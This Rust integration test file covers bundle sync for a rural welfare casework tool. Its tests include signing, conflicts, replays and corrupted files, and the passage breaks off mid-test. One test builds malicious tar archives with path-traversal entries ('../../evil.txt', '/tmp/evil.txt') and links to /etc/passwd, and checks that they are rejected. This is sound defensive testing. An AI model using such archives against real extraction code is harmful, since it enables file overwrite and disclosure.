//! Sync bundles through the real `bangfu` binary, with real files in
//! temporary folders: device identity, export, county import, acknowledgements,
//! two devices on one household (merge and conflict), signed policies, and
//! every kind of bad input (flipped bytes, truncation, unregistered device,
//! another county, replays, out-of-order bundles, tar path tricks, a 1 GB file).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::support::sync::{
    county, device, device_in, keys_of, policy_text, publish_policy, County,
};
use crate::support::{
    copy_store, import_households, open_store, p, photo, query_all, query_i64, query_text, run,
    sha256_file, sha256_hex, sql, tempdir, write_json, Bangfu, Run, POLICY_DEFAULT,
};

fn household(code: &str, id_number: &str, phone: &str, address: &str, group: &str) -> Value {
    json!({
        "id": code, "region_code": "341024", "village": "田心寨村",
        "group": group, "address": address, "phone": phone, "hukou": "rural",
        "members": [{
            "name": "程金明", "id_number": id_number, "relation": "self", "cohabiting": true,
            "disability": null, "serious_illness": false, "work_capacity": "full", "self_care": "full",
            "incomes": [{"kind": "wage", "annual": "9600.00"}]
        }],
        "expenses": [],
        "assets": {"financial": "3000.00", "disqualifying": []}
    })
}

const ID1: &str = "341024198104120119";
const ID2: &str = "341024198309300228";

fn export(db: &Path, out: &Path) -> Run {
    run(db, &["bundle", "export", "--out", p(out)])
}

fn import(county: &County, files: &[&Path]) -> Run {
    let mut args = vec!["county", "import"];
    args.extend(files.iter().map(|f| p(f)));
    run(&county.db, &args)
}

fn ack_of(bundle: &Path) -> PathBuf {
    let mut name = bundle.file_name().expect("name").to_owned();
    name.push(".ack");
    bundle.with_file_name(name)
}

/// Export, import at the county, and take the acknowledgement back.
fn sync(db: &Path, county: &County, out: &Path) -> Run {
    export(db, out).ok();
    let r = import(county, &[out]).ok();
    run(db, &["bundle", "ack", p(&ack_of(out))]).ok();
    r
}

/// Everything about a county store that an import could change.
fn snapshot(db: &Path) -> Vec<String> {
    query_all(
        db,
        &[
            "SELECT COUNT(*) || ':' || COALESCE(MAX(hash), '') FROM change_log",
            "SELECT COUNT(*) FROM households",
            "SELECT COUNT(*) FROM members",
            "SELECT COUNT(*) FROM sync_imports",
            "SELECT COALESCE(group_concat(device_id || '=' || last_sequence || '/' || last_hash), '') FROM sync_devices",
            "SELECT COUNT(*) FROM sync_conflicts",
            "SELECT COUNT(*) FROM sync_record_versions",
        ],
    )
}

/// A second device made from a copy of `from`'s store (say, the township's
/// laptop), with its own identity in the same village, registered at `county`.
pub(crate) fn copied_device(dir: &Path, from: &Path, name: &str, county: &County) -> PathBuf {
    let db = dir.join(format!("{name}.sqlite"));
    std::fs::copy(from, &db).expect("copy store");
    let reg = dir.join(format!("{name}.reg"));
    let r = run(
        &db,
        &[
            "device",
            "init",
            "--copied-store",
            "--name",
            "李四",
            "--village",
            "田心寨村",
            "--out",
            p(&reg),
        ],
    )
    .ok();
    assert!(r.stdout.contains("复制自设备"), "{}", r.stdout);
    run(&db, &["device", "import-county-key", p(&county.key_file)]).ok();
    run(&county.db, &["county", "register-device", p(&reg)]).ok();
    db
}

fn manifest_of(bundle: &Path) -> Value {
    // The manifest is the first member: header, then its bytes.
    let bytes = std::fs::read(bundle).expect("read");
    let size = usize::from_str_radix(std::str::from_utf8(&bytes[124..135]).expect("octal"), 8)
        .expect("size");
    serde_json::from_slice(&bytes[512..512 + size]).expect("manifest json")
}

// ---------------------------------------------------------------------------
// Round trip
// ---------------------------------------------------------------------------

#[test]
fn round_trip_ack_and_only_new_entries() {
    let dir = tempdir();
    let d = dir.path();
    let cty = county(d, "county", "341024");
    let db = d.join("a.sqlite");
    run(
        &db,
        &[
            "demo",
            "--per-village",
            "2",
            "--village",
            "田心寨村",
            "--as-of",
            "2026-12-01",
        ],
    )
    .ok();
    let dev = device(d, "a", &cty);
    assert_eq!(dev, db);

    let b1 = d.join("b1.bangfu");
    let r = export(&db, &b1).ok();
    assert!(r.stdout.contains("已导出第 1 号数据包"), "{}", r.stdout);
    let m1 = manifest_of(&b1);
    let device_log = run(&db, &["log", "verify"]).ok();
    let total = m1["entry_count"].as_u64().expect("count");
    assert!(
        device_log.stdout.contains(&format!("{total} 条记录")),
        "{}",
        device_log.stdout
    );
    assert_eq!(m1["sequence"], 1);
    assert_eq!(m1["first_seq"], 1);
    // No one's ID number in clear anywhere in the file.
    let raw = std::fs::read(&b1).expect("read");
    let text = String::from_utf8_lossy(&raw);
    let demo_ids = run(&db, &["export", "households"]).ok().stdout;
    let some_id = demo_ids
        .split('"')
        .find(|s| s.len() == 18 && s.starts_with("341024"))
        .expect("an ID number in the demo");
    assert!(
        !text.contains(some_id),
        "ID number {some_id} readable in the bundle"
    );

    let r = import(&cty, &[&b1]).ok();
    assert!(r.stdout.contains("✓"), "{}", r.stdout);
    // The county holds the same households, and its own audit log verifies.
    assert_eq!(
        run(&cty.db, &["export", "households"]).ok().stdout,
        demo_ids,
        "county and device hold the same households"
    );
    run(&cty.db, &["log", "verify"]).ok();

    // Importing the same bundle twice changes nothing (and rewrites the ack).
    let before = snapshot(&cty.db);
    let r = import(&cty, &[&b1]).ok();
    assert!(r.stdout.contains("已导入过"), "{}", r.stdout);
    assert_eq!(snapshot(&cty.db), before);

    let r = run(&db, &["bundle", "ack", p(&ack_of(&b1))]).ok();
    assert!(r.stdout.contains("县里确认收到第 1 号"), "{}", r.stdout);
    let again = run(&db, &["bundle", "ack", p(&ack_of(&b1))]).ok().stdout;
    assert!(again.contains("已导入过"), "{again}");

    // Nothing new: says so, writes nothing.
    let b2 = d.join("b2.bangfu");
    let r = export(&db, &b2).ok();
    assert!(r.stdout.contains("没有新的变更"), "{}", r.stdout);
    assert!(!b2.exists());

    // One new visit: the second bundle carries only it.
    run(
        &db,
        &[
            "visit",
            "add",
            "--household",
            "TXZ-001",
            "--date",
            "2026-12-02",
            "--worker",
            "甲",
            "--worker",
            "乙",
        ],
    )
    .ok();
    export(&db, &b2).ok();
    let m2 = manifest_of(&b2);
    assert_eq!(m2["sequence"], 2);
    assert_eq!(m2["entry_count"], 1);
    assert_eq!(m2["first_seq"].as_u64(), Some(total + 1));
    assert_eq!(m2["first_prev_hash"], m1["last_hash"]);
    import(&cty, &[&b2]).ok();
    run(&db, &["bundle", "ack", p(&ack_of(&b2))]).ok();
    let visits = run(
        &cty.db,
        &["visit", "list", "--household", "TXZ-001", "--json"],
    )
    .ok()
    .stdout;
    assert!(visits.contains("2026-12-02"), "{visits}");
    let status = run(&db, &["bundle", "status"]).ok().stdout;
    assert!(
        status.contains("第 2 号") && status.contains("待导出的变更：0 条"),
        "{status}"
    );
    let devices = run(&cty.db, &["county", "devices"]).ok().stdout;
    assert!(devices.contains("已导入至第 2 号"), "{devices}");
}

// ---------------------------------------------------------------------------
// Two devices, one household
// ---------------------------------------------------------------------------

#[test]
fn two_devices_merge_fields_and_report_conflicts() {
    let dir = tempdir();
    let d = dir.path();
    let cty = county(d, "county", "341024");
    let a = device(d, "a", &cty);
    let h1 =
        |phone: &str, address: &str, group: &str| household("TXZ-001", ID1, phone, address, group);
    let h2 = household("TXZ-002", ID2, "13900000002", "二号", "2组");
    import_households(
        &a,
        &d.join("a0.json"),
        &[h1("13900000001", "一号", "1组"), h2.clone()],
    );
    sync(&a, &cty, &d.join("a1.bangfu"));

    // Device B: a copy of A's store (say, the township's laptop) with its own identity.
    let b = copied_device(d, &a, "b", &cty);
    let a_id = query_text(&a, "SELECT value FROM settings WHERE key = 'device_id'");
    let b_id = query_text(&b, "SELECT value FROM settings WHERE key = 'device_id'");
    assert_ne!(a_id, b_id);

    // Different fields of the same household: both apply.
    import_households(
        &a,
        &d.join("a2.json"),
        &[h1("13911111111", "一号", "1组"), h2.clone()],
    );
    import_households(
        &b,
        &d.join("b2.json"),
        &[h1("13900000001", "新址一号", "1组"), h2.clone()],
    );
    let (a2, b2) = (d.join("a2.bangfu"), d.join("b1.bangfu"));
    export(&a, &a2).ok();
    export(&b, &b2).ok();
    let r = import(&cty, &[&a2, &b2]).ok();
    assert!(r.stdout.contains("新冲突 0 处"), "{}", r.stdout);
    let row = |col: &str| {
        query_text(
            &cty.db,
            &format!("SELECT {col} FROM households WHERE code = 'TXZ-001'"),
        )
    };
    assert_eq!(row("phone"), "13911111111");
    assert_eq!(row("address"), "新址一号");
    run(&a, &["bundle", "ack", p(&ack_of(&a2))]).ok();
    run(&b, &["bundle", "ack", p(&ack_of(&b2))]).ok();

    // The same field changed on both: a conflict, kept with both values.
    import_households(
        &a,
        &d.join("a3.json"),
        &[h1("13911111111", "一号", "甲组"), h2.clone()],
    );
    std::thread::sleep(Duration::from_millis(20));
    import_households(
        &b,
        &d.join("b3.json"),
        &[h1("13900000001", "新址一号", "乙组"), h2.clone()],
    );
    let (a3, b3) = (d.join("a3.bangfu"), d.join("b3.bangfu"));
    export(&a, &a3).ok();
    export(&b, &b3).ok();
    import(&cty, &[&a3]).ok();
    let r = import(&cty, &[&b3]).ok();
    assert!(r.stdout.contains("新冲突 1 处"), "{}", r.stdout);
    // Deterministic rule: the later change holds for now; nothing else is touched.
    assert_eq!(row("grp"), "乙组");
    assert_eq!(row("phone"), "13911111111");
    assert_eq!(row("address"), "新址一号");

    let list = run(&cty.db, &["county", "conflicts"]).ok().stdout;
    assert!(
        list.contains("TXZ-001") && list.contains("households.grp"),
        "{list}"
    );
    assert!(list.contains("甲组") && list.contains("乙组"), "{list}");
    let json: Value =
        serde_json::from_str(&run(&cty.db, &["county", "conflicts", "--json"]).ok().stdout)
            .expect("json");
    let c = &json[0];
    assert_eq!(c["held"]["device_id"], a_id.as_str());
    assert_eq!(c["held"]["value"], "甲组");
    assert_eq!(c["incoming"]["device_id"], b_id.as_str());
    assert_eq!(c["incoming"]["value"], "乙组");
    assert_eq!(c["winner"], "incoming");

    // The acknowledgement carries it back to the caseworker.
    let r = run(&b, &["bundle", "ack", p(&ack_of(&b3))]).ok();
    assert!(
        r.stdout.contains("1 处冲突") && r.stdout.contains("甲组") && r.stdout.contains("乙组"),
        "{}",
        r.stdout
    );
    let status = run(&b, &["bundle", "status"]).ok().stdout;
    assert!(status.contains("households.grp"), "{status}");
    // A's acknowledgement for that bundle predates B's bundle; the county writes it again.
    run(&a, &["bundle", "ack", p(&ack_of(&a3))]).ok();
    let again = d.join("a3-again.ack");
    run(&cty.db, &["county", "ack", &a_id, "--out", p(&again)]).ok();
    let r = run(&a, &["bundle", "ack", p(&again)]).ok();
    assert!(
        r.stdout.contains("1 处冲突") && r.stdout.contains("乙组"),
        "{}",
        r.stdout
    );
    assert!(run(&a, &["bundle", "status"])
        .ok()
        .stdout
        .contains("households.grp"));
    // A settles it by editing the field again.
    import_households(
        &a,
        &d.join("a4.json"),
        &[h1("13911111111", "一号", "丙组"), h2.clone()],
    );
    let a4 = d.join("a4.bangfu");
    let r = sync(&a, &cty, &a4);
    assert!(r.stdout.contains("解决冲突 1 处"), "{}", r.stdout);
    assert_eq!(row("grp"), "丙组");
    let open = run(&cty.db, &["county", "conflicts"]).ok().stdout;
    assert!(open.contains("共 0 处"), "{open}");
    let all = run(&cty.db, &["county", "conflicts", "--all"]).ok().stdout;
    assert!(all.contains("已解决"), "{all}");
    run(&cty.db, &["log", "verify"]).ok();
}

// ---------------------------------------------------------------------------
// Bad input
// ---------------------------------------------------------------------------

/// A county with one registered device holding one small household.
fn small_world(d: &Path) -> (County, PathBuf, PathBuf) {
    let cty = county(d, "county", "341024");
    let a = device(d, "a", &cty);
    import_households(
        &a,
        &d.join("h.json"),
        &[household("TXZ-001", ID1, "1", "一号", "1组")],
    );
    let bundle = d.join("small.bangfu");
    export(&a, &bundle).ok();
    (cty, a, bundle)
}

#[test]
fn every_flipped_byte_is_rejected_and_nothing_applied() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, _, bundle) = small_world(d);
    let original = std::fs::read(&bundle).expect("read");
    assert!(
        original.len() < 8 * 1024,
        "small bundle: {} bytes",
        original.len()
    );
    let before = snapshot(&cty.db);
    let flips = d.join("flips");
    std::fs::create_dir(&flips).expect("mkdir");
    let files: Vec<PathBuf> = (0..original.len())
        .map(|i| {
            let mut b = original.clone();
            b[i] ^= 0x20;
            let f = flips.join(format!("{i:05}.bangfu"));
            std::fs::write(&f, b).expect("write");
            f
        })
        .collect();
    let started = Instant::now();
    for chunk in files.chunks(500) {
        let refs: Vec<&Path> = chunk.iter().map(PathBuf::as_path).collect();
        let r = import(&cty, &refs);
        assert_eq!(r.code, 2, "{}", r.both());
        let rejected = r
            .stdout
            .lines()
            .filter(|l| l.starts_with("✗ 已拒绝"))
            .count();
        assert_eq!(rejected, chunk.len(), "every flip rejected:\n{}", r.stdout);
        assert!(!r.stdout.contains("✓"), "{}", r.stdout);
        assert!(
            r.stdout.contains(&format!("拒绝 {}", chunk.len())),
            "{}",
            r.stdout
        );
    }
    eprintln!(
        "{} flipped bundles rejected in {:?}",
        files.len(),
        started.elapsed()
    );
    assert_eq!(snapshot(&cty.db), before, "the county store is unchanged");
    // The untouched bundle still imports: the rejections were about the flips.
    import(&cty, &[&bundle]).ok();
    assert_ne!(snapshot(&cty.db), before);
}

#[test]
fn truncated_bundles_are_rejected() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, _, bundle) = small_world(d);
    let original = std::fs::read(&bundle).expect("read");
    let before = snapshot(&cty.db);
    for len in [
        0,
        100,
        511,
        512,
        1000,
        original.len() / 2,
        original.len() - 1024,
        original.len() - 1,
    ] {
        let f = d.join(format!("trunc-{len}.bangfu"));
        std::fs::write(&f, &original[..len]).expect("write");
        let r = import(&cty, &[&f]);
        assert_eq!(r.code, 2, "length {len}: {}", r.describe());
        // The import's report, on stdout, names the file refused and why.
        assert!(
            r.stdout.contains("已拒绝")
                && (r.stdout.contains("被截断") || r.stdout.contains("缺少")),
            "length {len}: {}",
            r.describe()
        );
    }
    let mut longer = original.clone();
    longer.extend_from_slice(b"extra");
    let f = d.join("longer.bangfu");
    std::fs::write(&f, &longer).expect("write");
    import(&cty, &[&f]).fails(2, "多余数据");
    assert_eq!(snapshot(&cty.db), before);
}

#[test]
fn unregistered_device_and_other_county_are_rejected() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a, bundle) = small_world(d);

    // A device that never registered here.
    let c = d.join("c.sqlite");
    run(
        &c,
        &[
            "device",
            "init",
            "--name",
            "王五",
            "--village",
            "田心寨村",
            "--out",
            p(&d.join("c.reg")),
        ],
    )
    .ok();
    run(&c, &["device", "import-county-key", p(&cty.key_file)]).ok();
    import_households(
        &c,
        &d.join("c.json"),
        &[household("TXZ-009", ID2, "9", "九号", "9组")],
    );
    let cb = d.join("c.bangfu");
    export(&c, &cb).ok();
    let before = snapshot(&cty.db);
    import(&cty, &[&cb]).fails(2, "未登记的设备");
    assert_eq!(snapshot(&cty.db), before);

    // Registered, its own household applies; but a second, independent TXZ-001 is refused whole.
    run(&cty.db, &["county", "register-device", p(&d.join("c.reg"))]).ok();
    import(&cty, &[&cb]).ok();
    run(&c, &["bundle", "ack", p(&ack_of(&cb))]).ok();
    import_households(
        &c,
        &d.join("c2.json"),
        &[household("TXZ-001", ID2, "8", "八号", "8组")],
    );
    let cb2 = d.join("c2.bangfu");
    export(&c, &cb2).ok();
    let before = snapshot(&cty.db);
    import(&cty, &[&bundle]).ok();
    let with_a = snapshot(&cty.db);
    assert_ne!(before, with_a);
    import(&cty, &[&cb2]).fails(2, "重复");
    assert_eq!(snapshot(&cty.db), with_a);

    // A bundle for another county, from a device registered at both.
    let other = county(d, "other", "341025");
    run(
        &other.db,
        &["county", "register-device", p(&d.join("a.reg"))],
    )
    .ok();
    let before = snapshot(&other.db);
    import(&other, &[&bundle]).fails(2, "不是发给本县");
    assert_eq!(snapshot(&other.db), before);

    // A county key file or an ack given where a bundle is expected is named as such.
    import(&cty, &[&cty.key_file]).fails(2, "县级公钥文件");
    import(&cty, &[&bundle]).ok();
    import(&cty, &[&ack_of(&bundle)]).fails(2, "这是回执");
    // And an ack is only for its own device.
    run(&c, &["bundle", "ack", p(&ack_of(&bundle))]).fails(2, "不是本机");
    run(&a, &["bundle", "ack", p(&ack_of(&bundle))]).ok();
}

#[test]
fn replayed_out_of_order_and_forked_bundles_are_rejected() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a, b1) = small_world(d);
    // Keep a copy of the county as it was before bundle 1.
    let early = County {
        db: d.join("early.sqlite"),
        key_file: cty.key_file.clone(),
    };
    copy_store(&cty.db, &early.db);

    import(&cty, &[&b1]).ok();
    run(&a, &["bundle", "ack", p(&ack_of(&b1))]).ok();
    let edit = |phone: &str, name: &str| {
        import_households(
            &a,
            &d.join(format!("{name}.json")),
            &[household("TXZ-001", ID1, phone, "一号", "1组")],
        );
    };
    edit("2", "e2");
    let b2 = d.join("b2.bangfu");
    export(&a, &b2).ok();

    // Out of order: bundle 2 where bundle 1 was never imported.
    let before = snapshot(&early.db);
    import(&early, &[&b2]).fails(2, "缺少第 1 号");
    assert_eq!(snapshot(&early.db), before);
    // Given together in the wrong order, they are sorted and both apply.
    let r = import(&early, &[&b2, &b1]).ok();
    assert_eq!(r.stdout.matches('✓').count(), 2, "{}", r.stdout);

    // A second export before the ack replaces bundle 2; the county takes only one of them.
    edit("3", "e3");
    let b2bis = d.join("b2bis.bangfu");
    let r = export(&a, &b2bis).ok();
    assert!(r.stdout.contains("取代"), "{}", r.stdout);
    assert_eq!(manifest_of(&b2bis)["sequence"], 2);
    import(&cty, &[&b2]).ok();
    let before = snapshot(&cty.db);
    import(&cty, &[&b2bis]).fails(2, "另一份");
    assert_eq!(snapshot(&cty.db), before);

    // Replay: bundle 1 again after bundle 2.
    import(&cty, &[&b1]).fails(2, "重放");
    assert_eq!(snapshot(&cty.db), before);

    // After the ack, the device carries on from bundle 2.
    run(&a, &["bundle", "ack", p(&ack_of(&b2))]).ok();
    let b3 = d.join("b3.bangfu");
    export(&a, &b3).ok();
    assert_eq!(manifest_of(&b3)["sequence"], 3);
    import(&cty, &[&b3]).ok();
    assert_eq!(
        query_text(
            &cty.db,
            "SELECT phone FROM households WHERE code = 'TXZ-001'"
        ),
        "3"
    );
}

fn tar_header(name: &str, size: usize, kind: u8, link: &str) -> [u8; 512] {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    h[100..108].copy_from_slice(b"0000644\0");
    h[108..116].copy_from_slice(b"0000000\0");
    h[116..124].copy_from_slice(b"0000000\0");
    h[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
    h[136..148].copy_from_slice(b"00000000000\0");
    h[156] = kind;
    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[329..337].copy_from_slice(b"0000000\0");
    h[337..345].copy_from_slice(b"0000000\0");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    h
}

fn tar(members: &[(&str, &[u8], u8, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data, kind, link) in members {
        out.extend_from_slice(&tar_header(name, data.len(), *kind, link));
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

#[test]
fn tar_path_tricks_are_rejected() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, _, bundle) = small_world(d);
    let manifest = serde_json::to_vec(&manifest_of(&bundle)).expect("json");
    let before = snapshot(&cty.db);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "dotdot",
            tar(&[("../../evil.txt", b"pwned", b'0', "")]),
            "路径穿越",
        ),
        (
            "absolute",
            tar(&[("/tmp/evil.txt", b"pwned", b'0', "")]),
            "路径穿越",
        ),
        (
            "subdir",
            tar(&[("x/manifest.json", &manifest, b'0', "")]),
            "路径穿越",
        ),
        (
            "symlink",
            tar(&[("manifest.json", b"", b'2', "/etc/passwd")]),
            "不是普通文件",
        ),
        (
            "hardlink",
            tar(&[("manifest.json", b"", b'1', "../../etc/passwd")]),
            "不是普通文件",
        ),
        (
            "second member",
            tar(&[
                ("manifest.json", &manifest, b'0', ""),
                ("../manifest.json.minisig", b"x", b'0', ""),
            ]),
            "路径穿越",
        ),
        (
            "extra member",
            tar(&[
                ("manifest.json", &manifest, b'0', ""),
                ("evil.sh", b"x", b'0', ""),
            ]),
            "不应有的文件",
        ),
    ];
    for (what, bytes, needle) in cases {
        let f = d.join(format!("{}.bangfu", what.replace(' ', "-")));
        std::fs::write(&f, &bytes).expect("write");
        let r = import(&cty, &[&f]);
        assert_eq!(r.code, 2, "{what}: {}", r.both());
        assert!(r.stdout.contains(needle), "{what}: {}", r.stdout);
    }
    assert!(!d.join("evil.txt").exists() && !Path::new("/tmp/evil.txt").exists());
    assert_eq!(snapshot(&cty.db), before);
}

#[test]
fn a_one_gigabyte_garbage_file_is_rejected_quickly_with_little_memory() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a, _) = small_world(d);
    let big = d.join("big.bangfu");
    std::fs::File::create(&big)
        .and_then(|f| f.set_len(1 << 30))
        .expect("sparse file");
    let before = snapshot(&cty.db);
    let (r, elapsed, peak_kib) = timed(&cty.db, &["county", "import", p(&big)]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stdout.contains("超过上限"), "{}", r.stdout);
    assert!(elapsed < Duration::from_secs(5), "{elapsed:?}");
    let kib = peak_kib.expect("the command reports its peak memory");
    // Opening the store takes 64 MiB for Argon2id; the file adds little.
    assert!(kib < 128 * 1024, "peak memory {kib} KiB");
    // Under the limit but garbage: rejected at the first header without reading the rest.
    let medium = d.join("medium.bangfu");
    {
        let mut f = std::fs::File::create(&medium).expect("create");
        f.write_all(&[0x5a; 4096]).expect("write");
        f.set_len(300 << 20).expect("sparse");
    }
    let (r, elapsed, peak_kib) = timed(&cty.db, &["county", "import", p(&medium)]);
    assert_eq!(r.code, 2, "{}", r.both());
    assert!(r.stdout.contains("不是 bangfu 文件"), "{}", r.stdout);
    assert!(elapsed < Duration::from_secs(5), "{elapsed:?}");
    let kib = peak_kib.expect("the command reports its peak memory");
    // Opening the store takes 64 MiB for Argon2id; the file adds little.
    assert!(kib < 128 * 1024, "peak memory {kib} KiB");
    // The same on the device side, for acks and policies.
    run(&a, &["bundle", "ack", p(&big)]).fails(2, "超过上限");
    run(&a, &["policy", "import", p(&big)]).fails(2, "超过上限");
    assert_eq!(snapshot(&cty.db), before);
}

/// Runs the binary, timing it and reading its own peak memory (Linux: KiB),
/// which it reports itself (`BANGFU_REPORT_PEAK`): a peak read by the parent
/// would include the test process's own memory, shared with the child between
/// fork and exec.
fn timed(db: &Path, args: &[&str]) -> (Run, Duration, Option<u64>) {
    let t = Instant::now();
    let r = Bangfu::new()
        .db(db)
        .env("BANGFU_REPORT_PEAK", "1") // the command reports its peak memory
        .run(args);
    let elapsed = t.elapsed();
    let peak = r
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("bangfu-peak-kib: "))
        .and_then(|v| v.trim().parse().ok());
    (r, elapsed, peak)
}

// ---------------------------------------------------------------------------
// Policies, keys, standard tools
// ---------------------------------------------------------------------------

#[test]
fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a, _) = small_world(d);
    let signed = d.join("policy.signed");
    run(
        &cty.db,
        &[
            "county",
            "publish-policy",
            POLICY_DEFAULT,
            "--out",
            p(&signed),
        ],
    )
    .ok();
    // Before any import the device evaluates under the built-in policy.
    let r = run(&a, &["policy", "list"]).ok();
    assert!(r.stdout.contains("尚未导入"), "{}", r.stdout);

    // The county raises the rural standard from 2027 on: 9,600 a year of
    // wages (700 a month after the work allowance) is then under it.
    let rural_900 = [
        ("\"2026-01-01\"", "\"2027-01-01\""),
        ("version = \"2026-01\"", "version = \"2027-01\""),
        (
            "rural_standard_monthly = \"600.00\"",
            "rural_standard_monthly = \"900.00\"",
        ),
    ];
    let signed_2027 = publish_policy(&cty.db, d, "policy-2027", &policy_text(&rural_900));
    for f in [&signed, &signed_2027] {
        let r = run(&a, &["policy", "import", p(f)]).ok();
        assert!(r.stdout.contains("已核对县级签名"), "{}", r.stdout);
    }
    let r = run(&a, &["policy", "list"]).ok();
    assert!(
        r.stdout.contains("2026-01-01") && r.stdout.contains("2027-01"),
        "{}",
        r.stdout
    );

    // eval, with no --policy, picks the imported policy in force on the date.
    let evaluated = |as_of: &str| -> Value {
        let r = run(&a, &["eval", "--as-of", as_of]).ok();
        let v: Value = serde_json::from_str(&r.stdout).expect("eval json");
        v["results"][0].clone()
    };
    let before = evaluated("2026-12-01");
    assert_ne!(before["status"], "dibao", "{before}");
    assert_eq!(before["standard"], "600.00", "{before}");
    let after = evaluated("2027-02-01");
    assert_eq!(after["status"], "dibao", "{after}");
    assert_eq!(after["standard"], "900.00", "{after}");
    assert_eq!(after["monthly_benefit"], "200.00", "{after}");
    assert!(
        after.to_string().contains("\"policy_version\":\"2027-01\""),
        "{after}"
    );

    // The same file again changes nothing; a re-issued policy for the same
    // date replaces the earlier one.
    let r = run(&a, &["policy", "import", p(&signed_2027)]).ok();
    assert!(r.stdout.contains("此前已导入"), "{}", r.stdout);
    let reissued = [
        rural_900[0],
        ("version = \"2026-01\"", "version = \"2027-01b\""),
        (
            "rural_standard_monthly = \"600.00\"",
            "rural_standard_monthly = \"950.00\"",
        ),
    ];
    let signed_2027b = publish_policy(&cty.db, d, "policy-2027b", &policy_text(&reissued));
    let r = run(&a, &["policy", "import", p(&signed_2027b)]).ok();
    assert!(r.stdout.contains("2027-01 已被替换"), "{}", r.stdout);
    assert_eq!(evaluated("2027-02-01")["standard"], "950.00");
    // A household file with --db is evaluated under that store's policies;
    // a --db that does not exist is an error, not a new store.
    let file = d.join("h.json");
    let r = run(&a, &["eval", "--input", p(&file), "--as-of", "2027-02-01"]).ok();
    assert!(r.stdout.contains("\"standard\":\"950.00\""), "{}", r.stdout);
    let typo = d.join("typo.sqlite");
    run(&typo, &["eval", "--input", p(&file)]).fails(2, "不存在");
    assert!(!typo.exists());

    // A device whose only county policy starts in the future is told so at
    // import, and evaluations before that date name what is missing.
    let b = device(d, "b", &cty);
    let signed_future = publish_policy(
        &cty.db,
        d,
        "policy-2099",
        &policy_text(&[
            ("\"2026-01-01\"", "\"2099-01-01\""),
            ("version = \"2026-01\"", "version = \"2099-01\""),
        ]),
    );
    let r = run(&b, &["policy", "import", p(&signed_future)]).ok();
    assert!(r.stdout.contains("最早 2099-01-01 才生效"), "{}", r.stdout);
    run(&b, &["eval", "--as-of", "2026-12-01"]).fails(2, "policy import");

    // Tampered: a standard in the clear policy text changed.
    let bytes = std::fs::read(&signed).expect("read");
    let text = String::from_utf8_lossy(&bytes);
    let at = text
        .find("urban_standard_monthly = \"800.00\"")
        .expect("standard in clear")
        + 26;
    let mut tampered = bytes.clone();
    tampered[at] = b'9';
    let f = d.join("tampered.signed");
    std::fs::write(&f, &tampered).expect("write");
    run(&a, &["policy", "import", p(&f)]).fails(2, "SHA-256");

    // Signed by a county key this device does not trust (same region, another key).
    let fake = county(d, "fake", "341024");
    let f = d.join("fake.signed");
    run(
        &fake.db,
        &["county", "publish-policy", POLICY_DEFAULT, "--out", p(&f)],
    )
    .ok();
    run(&a, &["policy", "import", p(&f)]).fails(2, "签名");

    // The county refuses to sign a policy of another region.
    let other = d.join("other.toml");
    std::fs::write(
        &other,
        std::fs::read_to_string(POLICY_DEFAULT)
            .expect("policy")
            .replace("341024", "341025"),
    )
    .expect("write");
    run(&cty.db, &["county", "publish-policy", p(&other)]).fails(2, "不是本县");
}

#[cfg(unix)]
#[test]
fn private_key_files_are_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempdir();
    let d = dir.path();
    let (_, a, _) = small_world(d);
    let mode = |p: PathBuf| std::fs::metadata(&p).expect("meta").permissions().mode() & 0o777;
    for keys in ["a.sqlite.keys", "county.sqlite.keys"] {
        assert_eq!(mode(d.join(keys)), 0o700, "{keys}");
    }
    for file in [
        "a.sqlite.keys/device.key",
        "a.sqlite.keys/device.age",
        "county.sqlite.keys/county.key",
        "county.sqlite.keys/county.age",
    ] {
        assert_eq!(mode(d.join(file)), 0o600, "{file}");
    }
    let key = d.join("a.sqlite.keys/device.key");
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    export(&a, &d.join("x.bangfu")).fails(1, "chmod 600");
    // An identity is never overwritten.
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    run(&a, &["device", "init", "--copied-store"]).fails(2, "已有设备密钥");
    let r = run(&a, &["device", "init"]).ok();
    assert!(r.stdout.contains("本机已有设备身份"), "{}", r.stdout);
}

#[test]
fn standard_tools_check_the_bundle() {
    let dir = tempdir();
    let d = dir.path();
    let (_, _, bundle) = small_world(d);
    let out = d.join("x");
    std::fs::create_dir(&out).expect("mkdir");
    let tar = Command::new("tar")
        .arg("xf")
        .arg(&bundle)
        .current_dir(&out)
        .status();
    let Ok(status) = tar else {
        eprintln!("notice: tar not found; skipping the standard-tools check");
        return;
    };
    assert!(status.success());
    let payload = std::fs::read(out.join("payload.age")).expect("payload");
    let m: Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).expect("manifest"))
            .expect("json");
    assert_eq!(m["payload"]["sha256"], sha256_hex(&payload));
    let pubkey = d.join("a.sqlite.keys/device.pub");
    match Command::new("minisign").arg("-v").output() {
        Err(_) => {
            eprintln!(
                "notice: minisign not installed (apt-get install minisign); skipping its check"
            );
        }
        Ok(_) => {
            let ok = Command::new("minisign")
                .args([
                    "-V",
                    "-q",
                    "-p",
                    p(&pubkey),
